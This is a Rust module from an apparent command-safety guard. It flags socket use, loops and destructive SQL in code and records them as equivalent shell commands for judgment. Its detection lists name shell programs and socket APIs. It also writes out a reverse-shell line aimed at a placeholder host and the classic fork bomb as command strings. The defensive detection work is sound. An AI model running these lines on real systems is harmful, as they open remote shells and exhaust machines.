//! Deeds that are judged by the command line that does the same.
//!
//! A fork in a loop, a shell that is tied to a socket and a statement that drops a table are no calls of the shell, but the guard knows
//! all three as commands; each is noted as such.

use super::invoke::Arguments;
use super::lexer::{Kind, Token};
use super::state::State;
use super::value::Value;
use crate::invocation::UNKNOWN;

/// Programs that take commands from their standard input.
const SHELLS: &[&str] = &["ash", "bash", "dash", "fish", "ksh", "sh", "zsh"];

/// Words that show that code talks over a socket of its own.
const SOCKETS: &[&str] =
    &["IO.Socket", "PF_INET", "SOCK_STREAM", "Socket", "TCPSocket", "fsockopen", "sockaddr_in", "socket"];

/// Methods that give a text to a database.
const QUERIES: &[&str] =
    &["exec", "execute", "executemany", "executescript", "query", "raw", "run", "unsafe"];

/// Statements that destroy or change what is stored.
const DESTROYING: &[&str] = &["ALTER", "DELETE", "DROP", "TRUNCATE", "UPDATE"];

/// What a look at the tokens tells about code as a whole.
#[derive(Debug, Clone, Copy, Default)]
#[expect(clippy::struct_excessive_bools, reason = "each is a fact of its own")]
pub(super) struct Traits {
    /// Something is decided by a condition, so that a listing may be filtered.
    pub(super) chooses: bool,
    /// Something is repeated.
    pub(super) loops: bool,
    /// It opens a socket.
    pub(super) connects: bool,
    /// A database lives in memory only.
    pub(super) forgets: bool,
}

impl Traits {
    /// Adds what these tokens tell.
    pub(super) fn look(&mut self, tokens: &[Token<'_>]) {
        for token in tokens {
            match &token.kind {
                Kind::Word("if" | "unless" | "filter" | "when" | "grep" | "select" | "reject")
                | Kind::Sign("?" | "&&") => {
                    self.chooses = true;
                }
                Kind::Word("while" | "loop" | "until") => self.loops = true,
                Kind::Word(word) => self.connects |= SOCKETS.contains(word),
                Kind::Text(pieces) => {
                    let is_net = |text: &str| matches!(text, "net" | "node:net");
                    self.forgets |= super::lexer::is_text(pieces, |text| text == ":memory:");
                    self.connects |= super::lexer::is_text(pieces, is_net);
                }
                _ => {}
            }
        }
    }
}

/// Says whether a command starts a shell that waits for commands.
pub(super) fn is_waiting_shell<'w>(words: impl IntoIterator<Item = &'w str>) -> bool {
    let mut words = words.into_iter();
    let program = words.next().unwrap_or_default();
    let program = program.rsplit('/').next().unwrap_or_default();
    SHELLS.contains(&program)
        && words.all(|word| word.contains(['<', '>']) || word.starts_with('-') && !word.ends_with('c'))
}

/// A shell that is tied to a socket, as a command.
pub(super) fn remote_shell() -> String {
    format!("sh -i >& /dev/tcp/{UNKNOWN}/1 0>&1")
}

impl State<'_> {
    /// Notes a shell that is tied to a socket, if the code has one.
    pub(super) fn shell_waits(&mut self) {
        if std::mem::take(&mut self.traits.connects) {
            self.script(&remote_shell(), None);
        }
    }

    /// Notes a fork; in a loop it is a bomb.
    pub(super) fn fork(&mut self) {
        if std::mem::take(&mut self.traits.loops) {
            self.script(":(){ :|:& };:", None);
        }
    }

    /// Notes a statement for a database, if the method of this name takes one and it destroys something.
    pub(super) fn query(&mut self, method: &str, arguments: &Arguments) {
        let name = method.rsplit('.').next().unwrap_or(method);
        let Some(Value::Text(statement)) = arguments.values.first().filter(|_| QUERIES.contains(&name))
        else {
            return;
        };
        let verb = statement.split_whitespace().next().unwrap_or_default();
        if !self.traits.forgets && DESTROYING.iter().any(|known| verb.eq_ignore_ascii_case(known)) {
            let argv = ["psql".to_owned(), "-c".to_owned(), statement.clone()];
            self.argv(&argv, None);
        }
    }
}
